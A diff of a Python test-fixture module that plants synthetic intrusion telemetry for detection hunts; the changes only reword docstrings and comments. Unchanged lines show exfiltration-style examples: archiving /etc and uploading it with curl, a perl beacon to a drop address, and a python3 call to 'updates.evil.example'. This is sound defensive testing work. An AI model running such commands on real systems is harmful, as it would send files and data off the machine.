@@ -1,7 +1,7 @@
 """
 The intrusions hidden in the fleet, with the incidents that Defender and Sentinel would raise for them.
 
-`intrusions(end)` gives them, `plant(engine, …)` writes their telemetry. Several hold what would harm a
+`intrusions(end)` makes them, and `plant(engine, …)` writes their telemetry. Several hold what would harm a
 careless reader: markup, a link, a spreadsheet formula, a bidirectional override, a password, a token.
 """
 
@@ -28,9 +28,9 @@ RELAY_ADDRESS = "203.0.113.77"
 
 class Intrusion(NamedTuple):
     """
-    An incident, by a name to call it by, and the rows of (table, row) that it left behind.
+    An incident, the `name` it is opened by, and the telemetry that it left, each row as (table, row).
 
-    One that is *standalone* is Sentinel's own: Defender does not know of it.
+    One that is `standalone` is Sentinel's own: Defender does not know of it.
     """
 
     name: str
@@ -47,12 +47,12 @@ def plant(engine: Engine, planted: Iterable[Intrusion]) -> None:
 
 
 def intrusions(end: datetime) -> list[Intrusion]:
-    """Return the planted intrusions in the order they come to light, all within two hours before *end*."""
+    """Return the planted intrusions in the order in which they open, all within two hours before *end*."""
     makers = (_exfiltration, _download, _windows, _silent, _merged, _benign, _spread, _analytics)
     return [make(end) for make in makers]
 
 
-# Tables of rows and evidence read best one to a line.
+# Rows and evidence read best one per line.
 # fmt: off
 
 
@@ -82,7 +82,7 @@ def _exfiltration(end: datetime) -> Intrusion:
             ran(srv, at, "tar", tar, "svc-backup"),
             connected(srv, upload, "curl", curl, "svc-backup", DROP_ADDRESS, drop),
             connected(srv, at + timedelta(minutes=50), "perl", beacon, "svc-backup", DROP_ADDRESS, drop),
-            # What must not be found: an upload that stays on the machine, one that comes a minute too late.
+            # Must not be found: an upload that stays on the machine, and one that comes a minute too late.
             ran(other, at, "tar", "tar -czf /var/backups/etc.tgz /etc", "root"),
             connected(other, at + timedelta(minutes=5), "curl", "curl -s localhost", "root", "127.0.0.1"),
             connected(other, at + timedelta(minutes=31), "curl", "curl -T etc.tgz", "root", "198.51.100.77"),
@@ -110,7 +110,7 @@ def _download(end: datetime) -> Intrusion:
         [
             wrote(wks, at, folder, name, sha1, LURE_URL, "https://mail.contoso.com/owa/", "203.0.113.45"),
             connected(wks, later, "python3", command, "user35", address, "updates.evil.example"),
-            # Excluded on a desktop, whatever it talks to.
+            # The hunts exclude snapd on a desktop, whatever it talks to.
             connected(wks, later, "snapd", snapd, "root", "203.0.113.46", "api.snaps.example"),
         ],
     )
